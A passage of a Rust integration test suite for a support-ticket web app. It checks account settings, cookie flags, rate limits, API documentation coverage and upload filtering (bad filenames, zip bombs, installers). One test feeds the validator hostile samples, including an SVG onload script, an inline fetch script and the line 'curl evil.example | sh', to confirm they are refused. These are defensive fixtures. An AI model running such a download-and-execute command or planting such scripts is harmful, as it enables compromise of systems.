    );
    let r = user
        .auth(user.client.put(app.url("/api/account")))
        .json(&json!({ "name": "Uma", "locale": "de", "notify_status": true, "notify_replies": false }))
        .send()
        .await
        .expect("put");
    assert_eq!(r.status(), 400);
    let r = user
        .auth(user.client.put(app.url("/api/account")))
        .json(&json!({ "name": " Uma P. ", "locale": "ro", "notify_status": true, "notify_replies": false }))
        .send()
        .await
        .expect("put");
    assert_eq!(r.status(), 200);
    let (_, me) = user.get(&app, "/api/account").await;
    assert_eq!(
        (
            me["name"].as_str(),
            me["locale"].as_str(),
            me["notify_replies"].as_bool()
        ),
        (Some("Uma P."), Some("ro"), Some(false))
    );
    let (status, body) = user
        .post(
            &app,
            "/api/account/password",
            json!({ "current": "nope", "new": "a-new-password-1" }),
        )
        .await;
    assert_eq!((status, body["field"].as_str()), (400, Some("current")));
    let (status, _) = user
        .post(
            &app,
            "/api/account/password",
            json!({ "current": PW, "new": "a-new-password-1" }),
        )
        .await;
    assert_eq!(status, 204);
    let r = reqwest::Client::new()
        .post(app.url("/api/session"))
        .json(&json!({ "email": "user@demo.test", "password": "a-new-password-1" }))
        .send()
        .await
        .expect("login");
    assert_eq!(r.status(), 200);
}

#[tokio::test]
async fn behind_https_the_session_cookie_is_secure_and_host_prefixed() {
    let app = TestApp::spawn_demo("public_url = \"https://support.example.test\"\n").await;
    let r = reqwest::Client::new()
        .get(app.url("/api/session"))
        .send()
        .await
        .expect("session");
    let cookie = r
        .headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|v| v.starts_with("__Host-frontdesk="))
        .map(str::to_string)
        .expect("a __Host- session cookie");
    for attribute in ["Secure", "HttpOnly", "SameSite=Lax", "Path=/"] {
        assert!(cookie.contains(attribute), "{attribute} missing: {cookie}");
    }
    assert!(!cookie.contains("Domain="), "{cookie}");
}

#[tokio::test]
async fn notifications_are_written_in_the_users_language() {
    let app = TestApp::spawn_demo("").await;
    let user = Who::login(&app, "user@demo.test").await;
    // The portal's account form shares the session's CSRF token.
    let r = user
        .client
        .post(app.url("/portal/account"))
        .form(&[
            ("csrf", user.csrf.as_deref().unwrap_or("")),
            ("name", "Uma"),
            ("locale", "fr"),
            ("notify_status", "true"),
            ("notify_replies", "true"),
        ])
        .send()
        .await
        .expect("account");
    assert!(r.status().is_success() || r.status().is_redirection());
    let n = user.open_ticket(&app, "Langue").await;
    let op = Who::login(&app, "operator@demo.test").await;
    op.status(&app, n, "in_analysis").await;
    app.wait_for_email("user@demo.test", "En analyse").await;
}

#[tokio::test]
async fn operators_correct_fields_and_the_widget_knows_a_portal_user() {
    let app = TestApp::spawn_demo("").await;
    let user = Who::login(&app, "user@demo.test").await;
    let op = Who::login(&app, "operator@demo.test").await;
    // The widget on the same host recognises the logged-in portal user.
    let (_, me) = user.get(&app, "/api/widget/me").await;
    assert_eq!(me["kind"], "portal");
    assert_eq!(me["user"]["email"], "user@demo.test");
    assert_eq!(me["csrf_token"].as_str(), user.csrf.as_deref());

    let n = user.open_ticket(&app, "Wrong type").await;
    let edit =
        json!({ "type": "feature_request", "summary": "Export to CSV", "category": "Exports" });
    let r = user
        .auth(user.client.patch(app.url(&format!("/api/tickets/{n}"))))
        .json(&edit)
        .send()
        .await
        .expect("patch");
    assert_eq!(r.status(), 403);
    let r = op
        .auth(op.client.patch(app.url(&format!("/api/tickets/{n}"))))
        .json(&json!({ "type": "question" }))
        .send()
        .await
        .expect("patch");
    assert_eq!(r.status(), 400);
    let r = op
        .auth(op.client.patch(app.url(&format!("/api/tickets/{n}"))))
        .json(&edit)
        .send()
        .await
        .expect("patch");
    assert_eq!(r.status(), 200);
    let (_, t) = user.get(&app, &format!("/api/tickets/{n}")).await;
    assert_eq!(t["ticket"]["type"], "feature_request");
    assert_eq!(t["ticket"]["summary"], "Export to CSV");
    assert_eq!(t["ticket"]["category"], "Exports");
    let changes: Vec<(String, String, String)> = t["events"]
        .as_array()
        .expect("events")
        .iter()
        .filter(|e| e["kind"] == "field")
        .map(|e| {
            (
                e["field"].as_str().unwrap_or("").to_string(),
                e["old_value"].as_str().unwrap_or("").to_string(),
                e["new_value"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect();
    assert_eq!(
        changes,
        [
            ("kind".into(), "bug_report".into(), "feature_request".into()),
            (
                "summary".into(),
                "Wrong type".into(),
                "Export to CSV".into()
            ),
            ("category".into(), "".into(), "Exports".into()),
        ]
    );
    assert!(
        t["events"]
            .as_array()
            .expect("events")
            .iter()
            .all(|e| e["actor_name"].is_string())
    );
}

#[tokio::test]
async fn opening_tickets_is_rate_limited_per_user() {
    let app = TestApp::spawn_demo("").await;
    let user = Who::login(&app, "user@demo.test").await;
    let mut statuses = Vec::new();
    for i in 0..31 {
        let form = Form::new()
            .text("type", "bug_report")
            .text("description", format!("ticket {i}"));
        statuses.push(user.multipart(&app, "/api/tickets", form).await.0);
    }
    assert!(statuses[..30].iter().all(|s| *s == 201), "{statuses:?}");
    assert_eq!(statuses[30], 429);
}

/// The router and the API document agree both ways: every documented
/// operation is served (anonymously it answers with one of its documented
/// codes and the JSON error body), and the methods a documented path does
/// not list are refused with 405. (No `/api/` route can be added without
/// documenting it: a unit test in `http::openapi` checks that.)
#[tokio::test]
async fn the_router_serves_exactly_the_documented_api() {
    let app = TestApp::spawn_demo("").await;
    let (status, doc) = app.get_text("/api/openapi.json").await;
    assert_eq!(status, 200);
    let doc: Value = serde_json::from_str(&doc).expect("json");
    let paths = doc["paths"].as_object().expect("paths");
    for p in [
        "/api/bot/ask",
        "/api/bot/suggestions",
        "/api/bot/conversations/{id}",
    ] {
        assert!(paths.contains_key(p), "{p} is documented");
    }
    let client = reqwest::Client::new();
    let methods = ["get", "post", "put", "patch", "delete"];
    let mut problems = Vec::new();
    for (path, item) in paths {
        let concrete = path
            .split('/')
            .map(|s| if s.starts_with('{') { "1" } else { s })
            .collect::<Vec<_>>()
            .join("/");
        for m in methods {
            let method = reqwest::Method::from_bytes(m.to_uppercase().as_bytes()).expect("method");
            let r = client
                .request(method, app.url(&concrete))
                .send()
                .await
                .expect("request");
            let status = r.status().as_u16();
            let body = r.text().await.unwrap_or_default();
            match item.get(m) {
                None if status != 405 => {
                    problems.push(format!("{m} {path}: undocumented but answers {status}"))
                }
                None => {}
                Some(op) => {
                    if status == 405 || body.contains("No API endpoint") {
                        problems.push(format!("{m} {path}: documented but not served"));
                    } else if op["responses"].get(status.to_string()).is_none() {
                        problems.push(format!("{m} {path}: {status} is not documented"));
                    } else if status >= 400 {
                        let e: Value = serde_json::from_str(&body).unwrap_or_default();
                        if !e["error"].is_string() || !e["message"].is_string() {
                            problems.push(format!("{m} {path}: {status} without the error body"));
                        }
                    }
                }
            }
        }
    }
    assert!(problems.is_empty(), "{problems:#?}");

    // The cases the document once lacked, and rejections by axum's
    // extractors (plain text before), now JSON errors that are documented.
    for (method, url, path, expected) in [
        (
            "GET",
            "/api/chats/1/messages?after=9223372036854775808",
            "/api/chats/{id}/messages",
            400,
        ),
        ("POST", "/api/password/forgot", "/api/password/forgot", 400),
        (
            "GET",
            "/api/admin/live-settings",
            "/api/admin/live-settings",
            401,
        ),
        (
            "GET",
            "/api/bot/suggestions?page_url=/x&locale=xx",
            "/api/bot/suggestions",
            400,
        ),
        (
            "GET",
            "/api/bot/suggestions?page_url=/x&page_url=/y",
            "/api/bot/suggestions",
            400,
        ),
        (
            "GET",
            "/api/bot/conversations/%FF",
            "/api/bot/conversations/{id}",
            404,
        ),
        (
            "POST",
            "/api/tickets/1/replies",
            "/api/tickets/{number}/replies",
            401,
        ),
    ] {
        let m = reqwest::Method::from_bytes(method.as_bytes()).expect("method");
        let r = client
            .request(m, app.url(url))
            .send()
            .await
            .expect("request");
        assert_eq!(r.status().as_u16(), expected, "{method} {url}");
        let e: Value = r.json().await.expect("a JSON error");
        assert!(e["error"].is_string(), "{method} {url}: {e}");
        assert!(
            doc["paths"][path][method.to_lowercase()]["responses"]
                .get(expected.to_string())
                .is_some(),
            "{method} {path} documents {expected}"
        );
    }
    // Files go as multipart: anything else is a documented 415, not
    // axum's plain-text 400.
    let (admin, csrf) = app.log_in("admin@demo.test", "demo-password").await;
    let r = admin
        .post(app.url("/api/tickets"))
        .header("x-csrf-token", csrf)
        .json(&json!({ "type": "question" }))
        .send()
        .await
        .expect("request");
    assert_eq!(r.status(), 415);
    let e: Value = r.json().await.expect("a JSON error");
    assert_eq!(e["error"], "unsupported_media_type");
}

/// A ticket form built by hand, so a part's headers can hold bytes no
/// client library sends: each file is its raw `Content-Disposition` value
/// and its content. Returns the content type and the body.
fn raw_ticket_form(files: &[(&[u8], &[u8])]) -> (String, Vec<u8>) {
    let boundary = "----frontdesk-raw-boundary-7MA4YWxkTrZu0gW";
    let mut body = Vec::new();
    for (name, value) in [("type", "bug_report"), ("description", "raw upload")] {
        body.extend_from_slice(
            format!(
                "--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
            )
            .as_bytes(),
        );
    }
    for (disposition, content) in files {
        body.extend_from_slice(format!("--{boundary}\r\nContent-Disposition: ").as_bytes());
        body.extend_from_slice(disposition);
        body.extend_from_slice(b"\r\nContent-Type: application/octet-stream\r\n\r\n");
        body.extend_from_slice(content);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
    (format!("multipart/form-data; boundary={boundary}"), body)
}

async fn post_raw(app: &TestApp, who: &Who, files: &[(&[u8], &[u8])]) -> (u16, Value) {
    let (content_type, body) = raw_ticket_form(files);
    let r = who
        .auth(who.client.post(app.url("/api/tickets")))
        .header("content-type", content_type)
        .body(body)
        .send()
        .await
        .expect("raw multipart POST");
    let status = r.status().as_u16();
    (status, r.json().await.unwrap_or(Value::Null))
}

/// The names of a created ticket's attachments.
async fn attachment_names(app: &TestApp, who: &Who, created: &Value) -> Vec<String> {
    let n = created["number"].as_i64().expect("number");
    let (_, t) = who.get(app, &format!("/api/tickets/{n}")).await;
    t["attachments"]
        .as_array()
        .expect("attachments")
        .iter()
        .map(|a| a["file_name"].as_str().unwrap_or("").to_string())
        .collect()
}

#[tokio::test]
async fn no_file_is_dropped_for_its_name_it_is_stored_or_refused_by_name() {
    let app = TestApp::spawn_demo("").await;
    let user = Who::login(&app, "user@demo.test").await;
    let text = samples::sample("txt");
    // A Latin-1 byte (not UTF-8) in the name: stored, the name read as Latin-1.
    let (status, body) = post_raw(
        &app,
        &user,
        &[(
            b"form-data; name=\"files\"; filename=\"caf\xe9.txt\"",
            &text,
        )],
    )
    .await;
    assert_eq!(status, 201, "{body}");
    assert_eq!(
        attachment_names(&app, &user, &body).await,
        ["caf\u{e9}.txt"]
    );
    // The RFC 5987 form, which wins over the plain one.
    let (status, body) = post_raw(
        &app,
        &user,
        &[(
            b"form-data; name=\"files\"; filename*=UTF-8''r%C3%A9sum%C3%A9.txt; filename=\"resume.txt\"",
            &text,
        )],
    )
    .await;
    assert_eq!(status, 201, "{body}");
    assert_eq!(
        attachment_names(&app, &user, &body).await,
        ["r\u{e9}sum\u{e9}.txt"]
    );
    // A raw line feed in the name: the part's headers cannot be read, so
    // the whole request is refused, never a ticket without its file.
    let before = user.get(&app, "/api/tickets").await.1;
    let (status, body) = post_raw(
        &app,
        &user,
        &[(
            b"form-data; name=\"files\"; filename=\"two\nlines.txt\"",
            &text,
        )],
    )
    .await;
    assert_eq!(
        (status, body["error"].as_str()),
        (400, Some("bad_name")),
        "{body}"
    );
    assert_eq!(
        body["message"],
        "two lines.txt: the file name has a line break or another control character; \
         rename the file and send it again"
    );
    assert_eq!(user.get(&app, "/api/tickets").await.1, before);
    // A binary file with an unreadable name is not taken for a text field.
    let (status, body) = post_raw(
        &app,
        &user,
        &[(
            b"form-data; name=\"files\"; filename=\"\xff\xfe.png\"",
            &samples::sample("png"),
        )],
    )
    .await;
    assert_eq!(status, 201, "{body}");
    assert_eq!(
        attachment_names(&app, &user, &body).await,
        ["\u{ff}\u{fe}.png"]
    );
}

#[tokio::test]
async fn office_files_must_be_real_packages_and_zip_bombs_are_refused() {
    let app = TestApp::spawn_demo("").await;
    let user = Who::login(&app, "user@demo.test").await;
    let send = |name: &str, bytes: Vec<u8>| {
        Form::new()
            .text("type", "bug_report")
            .text("description", "office file")
            .part("files", file(name, bytes))
    };
    let before = user.get(&app, "/api/tickets").await.1;
    // Any ZIP archive renamed.
    let plain = samples::zip(&[("photos/cat.jpg", &samples::sample("jpg"))]);
    let (status, body) = user
        .multipart(&app, "/api/tickets", send("report.docx", plain.clone()))
        .await;
    assert_eq!(
        (status, body["error"].as_str()),
        (400, Some("content_mismatch")),
        "{body}"
    );
    assert_eq!(
        body["message"],
        "report.docx: its content is not a Word document (it has no [Content_Types].xml)"
    );
    let (status, body) = user
        .multipart(
            &app,
            "/api/tickets",
            send("sheet.xlsx", samples::sample("docx")),
        )
        .await;
    assert_eq!(status, 400, "{body}");
    assert!(
        body["message"]
            .as_str()
            .unwrap_or("")
            .starts_with("sheet.xlsx: "),
        "{body}"
    );
    // A real zip bomb: 19 MiB of zeros deflated to about 120 KiB.
    let bomb = samples::zip_bomb_docx(19);
    assert!(bomb.len() < 200 * 1024, "{}", bomb.len());
    let (status, body) = user
        .multipart(&app, "/api/tickets", send("invoice.docx", bomb))
        .await;
    assert_eq!(
        (status, body["error"].as_str()),
        (400, Some("zip_bomb")),
        "{body}"
    );
    assert_eq!(
        body["message"],
        "invoice.docx: refused as a possible zip bomb (an entry would expand more than 100 times)"
    );
    assert_eq!(user.get(&app, "/api/tickets").await.1, before);
    let tmp = app.data.path().join("attachments").join("tmp");
    // The server makes the folder at start-up: a missing one would mean
    // this looks in the wrong place.
    let left = std::fs::read_dir(&tmp).expect("the uploads' temporary folder");
    assert_eq!(left.count(), 0);
    // Real documents still go through.
    let (status, body) = user
        .multipart(
            &app,
            "/api/tickets",
            send("letter.docx", samples::sample("docx")),
        )
        .await;
    assert_eq!(status, 201, "{body}");
}

#[tokio::test]
async fn markup_and_scripts_are_refused_even_named_txt() {
    let app = TestApp::spawn_demo("").await;
    let user = Who::login(&app, "user@demo.test").await;
    for content in [
        &b"<!DOCTYPE html><html><body>Your invoice</body></html>"[..],
        b"\xEF\xBB\xBF\n  <svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
        b"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
        b"Hello,\nplease see below.\n<script>fetch('/api/tickets')</script>",
        b"#!/bin/sh\ncurl evil.example | sh\n",
    ] {
        let form = Form::new()
            .text("type", "bug_report")
            .text("description", "text file")
            .part("files", file("notes.txt", content.to_vec()));
        let (status, body) = user.multipart(&app, "/api/tickets", form).await;
        assert_eq!(
            (status, body["error"].as_str()),
            (400, Some("type_forbidden")),
            "{}: {body}",
            String::from_utf8_lossy(content)
        );
        assert_eq!(
            body["message"],
            "notes.txt: its content is HTML, SVG or a script, which is never accepted"
        );
    }
}

#[tokio::test]
async fn installers_are_accepted_only_when_an_admin_opts_in_and_limits_say_mib() {
    let app = TestApp::spawn_demo("").await;
    let user = Who::login(&app, "user@demo.test").await;
    let msi = || {
        Form::new()
            .text("type", "bug_report")
            .text("description", "installer")
            .part("files", file("setup.msi", samples::sample("msi")))
    };
    let (status, body) = user.multipart(&app, "/api/tickets", msi()).await;
    assert_eq!(
        (status, body["error"].as_str()),
        (400, Some("type_not_allowed")),
        "{body}"
    );
    assert!(
        body["message"]
            .as_str()
            .unwrap_or("")
            .starts_with("setup.msi: .msi files are not accepted")
    );
    // The limit is in binary units and says so, in the API and the portal.
    let mut big = samples::sample("txt");
    big.resize(20 * 1024 * 1024 + 1, b'a');
    let form = Form::new()
        .text("type", "bug_report")
        .text("description", "big")
        .part("files", file("big.txt", big));
    let (status, body) = user.multipart(&app, "/api/tickets", form).await;
    assert_eq!(status, 413);
    assert_eq!(body["message"], "big.txt: larger than the 20 MiB limit");
    let r = user
        .auth(user.client.get(app.url("/portal/tickets/new")))
        .send()
        .await
        .expect("new ticket page");
    let page = r.text().await.expect("page");
    assert!(page.contains("files of 20 MiB each"), "{page}");
    assert!(!page.contains(" MB"), "{page}");
    assert!(!page.contains("msi"), "{page}");
    drop(app);

    let app = TestApp::spawn_demo("attachment_allow_msi = true\n").await;
    let user = Who::login(&app, "user@demo.test").await;
    let (status, body) = user.multipart(&app, "/api/tickets", msi()).await;
    assert_eq!(status, 201, "{body}");
    assert_eq!(attachment_names(&app, &user, &body).await, ["setup.msi"]);
}
